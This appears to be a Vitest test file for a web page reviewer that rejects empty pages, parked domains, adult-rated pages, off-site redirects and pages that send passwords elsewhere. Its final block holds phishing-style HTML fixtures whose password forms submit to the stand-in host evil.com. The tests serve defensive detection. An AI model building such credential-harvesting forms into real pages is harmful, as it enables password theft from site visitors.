import { describe, expect, it } from 'vitest'
import { parseDestination } from '../../src/destinations/destination.ts'
import { pageRules } from '../../src/review/page-rules.ts'
import { reviewPage } from '../../src/review/reviewers.ts'
import { readers } from '../support/readers.ts'

async function review(html: string, headers: Record<string, string> = {}, url = 'https://acme.com/') {
  const all = { 'content-type': 'text/html; charset=utf-8', ...headers }
  const fetched = await readers.read({ body: Buffer.from(html), url, headers: all })
  if (fetched.verdict !== 'pass') throw new Error(`not read: ${JSON.stringify(fetched)}`)
  return reviewPage([pageRules], fetched.page, parseDestination(url))
}

const PASS = { verdict: 'pass' }
const rejects = (reason: string) => expect.objectContaining({ verdict: 'reject', reason })

describe('an honest page passes', () => {
  it.each([
    ['a plain one', '<title>Acme</title><h1>Widgets</h1><p>Buy them.'],
    ['a title alone', '<title>Acme</title>'],
    ['words alone', 'hello'],
    ['a number', '<p>42'],
    [
      'an application shell',
      '<title>Acme</title><div id=root></div><script src=/app.js></script><noscript>Enable scripts</noscript>',
    ],
    ['another alphabet', '<title>ウィジェット'],
    ['a login form', '<title>Acme</title><form action=/login method=post><input type=password></form>'],
    [
      'a login form on a subdomain',
      '<title>Acme</title><form action=https://login.acme.com/><input type=password></form>',
    ],
    ['a search form elsewhere', '<title>Acme</title><form action=https://search.com/><input name=q></form>'],
    ['a refresh of itself', '<title>Acme</title><meta http-equiv=refresh content=300>'],
    [
      'a refresh to its www. name',
      '<title>Acme</title><meta http-equiv=refresh content="0;url=https://www.acme.com/home">',
    ],
    ['a harmless rating', '<title>Acme</title><meta name=rating content=general>'],
    ['an adult word', '<title>Adult education: courses for grown-ups</title>'],
    ['one domain for sale', '<title>Names</title><p>This domain is for sale, among many others.'],
    [
      'a link to a domain market',
      '<title>Acme</title><p>We sold our old name.<a href=https://sedo.com/x>there</a>',
    ],
    [
      'an article about parked domains',
      `<title>What is a parked domain?</title><p>${'Words about the history of domain names. '.repeat(100)}
       <p>They say "this domain is for sale" or "buy this domain". This domain is parked.<a href=https://sedo.com/>Sedo</a>`,
    ],
    ['parking of cars', '<title>Acme parking</title><p>Your car is parked here. Buy this place.'],
    [
      'house sales',
      '<title>Homes</title><p>This house is for sale. The page is updated daily. Make an offer.',
    ],
  ])('%s', async (_what, html) => {
    expect(await review(html)).toEqual(PASS)
  })

  it('also that of a domain market', async () => {
    const html =
      '<title>Sedo</title><p>Every domain here is for sale.<a href=https://sedo.com/a>a</a><img src=https://img.sedo.com/x>'
    expect(await review(html, {}, 'https://sedo.com/')).toEqual(PASS)
  })
})

describe('an empty page is refused', () => {
  it.each([
    '',
    ' \n ',
    '<title></title>',
    '<p>&nbsp;…!?',
    '<script src=app.js></script>',
    '<img src=a.png>',
    '<title>\u200b\u202e</title>',
    '<div hidden>words',
  ])('%j', async html => {
    expect(await review(html)).toEqual(rejects('empty_page'))
  })
})

describe('a parked domain is refused', () => {
  it.each([
    [
      'for sale and to buy',
      '<title>acme.com</title><p>This domain is for sale!<a href=x>Buy this domain</a>',
    ],
    [
      'for sale at a market',
      '<title>acme.com is for sale</title><p>Hello<a href=https://www.hugedomains.com/x>more</a>',
    ],
    ['parked and for sale', '<p>This domain is parked free. The domain may be for sale.'],
    [
      'parked by a service',
      '<title>acme.com</title><p>acme.com is parked<script src=https://img.sedoparking.com/a.js></script>',
    ],
    [
      'only the script of a service',
      '<title>Loading</title><script src=https://d38psrni17bvxu.cloudfront.net/x.js></script>',
    ],
    ['with an offer to make', '<p>Domain for sale. Make an offer on this domain.'],
  ])('%s', async (_what, html) => {
    expect(await review(html)).toEqual(rejects('parked_domain'))
  })
})

describe('adult content is refused', () => {
  it.each([
    ['by its label', '<meta name=rating content=adult>', {}],
    ['by its RTA label', '<meta name=RATING content=RTA-5042-1996-1400-1577-RTA>', {}],
    ['by the second label', '<meta name=rating content=general><meta name=rating content=Adult>', {}],
    ['by its header', '', { rating: 'RTA-5042-1996-1400-1577-RTA' }],
    ['by one of its headers', '', { rating: 'general, adult' }],
  ])('%s', async (_how, html, headers) => {
    expect(await review(`<title>Acme</title>${html}`, headers)).toEqual({
      verdict: 'reject',
      reason: 'adult_content',
    })
  })
})

describe('a page that sends its visitors away is refused', () => {
  it.each([
    [
      'by meta',
      '<meta http-equiv=refresh content="0;url=https://other.com/">',
      {},
      'The page sends its visitors on to other.com.',
    ],
    ['by header', '', { refresh: '3; url=//other.com' }, 'The page sends its visitors on to other.com.'],
    [
      'by its base',
      '<base href=//other.com><meta http-equiv=refresh content="0;url=/">',
      {},
      'The page sends its visitors on to other.com.',
    ],
    [
      'inside a network',
      '<meta http-equiv=refresh content="0;url=http://10.0.0.1">',
      {},
      'The page sends its visitors on to another website.',
    ],
  ])('%s', async (_how, html, headers, detail) => {
    expect(await review(`<title>Acme</title>${html}`, headers)).toEqual({
      verdict: 'reject',
      reason: 'redirects_elsewhere',
      detail,
    })
  })

  it('from one customer of a hosting service to another', async () => {
    const html = '<title>A</title><meta http-equiv=refresh content="0;url=https://b.github.io/">'
    expect(await review(html, {}, 'https://a.github.io/')).toEqual(rejects('redirects_elsewhere'))
  })
})

describe('a page that sends passwords elsewhere is refused', () => {
  it.each([
    ['by its form', '<form action=https://evil.com/><input type=password></form>'],
    ['by its button', '<form><input type=password><button formaction=https://evil.com/>'],
    ['by its base', '<base href=https://evil.com><form action=/login><input type=password></form>'],
    [
      'by a later form',
      '<form><input type=password></form><form action=//evil.com/><input type=password></form>',
    ],
  ])('%s', async (_how, html) => {
    expect(await review(`<title>Acme</title>${html}`)).toEqual({
      verdict: 'reject',
      reason: 'malicious',
      detail: 'The page sends passwords to evil.com.',
    })
  })
})
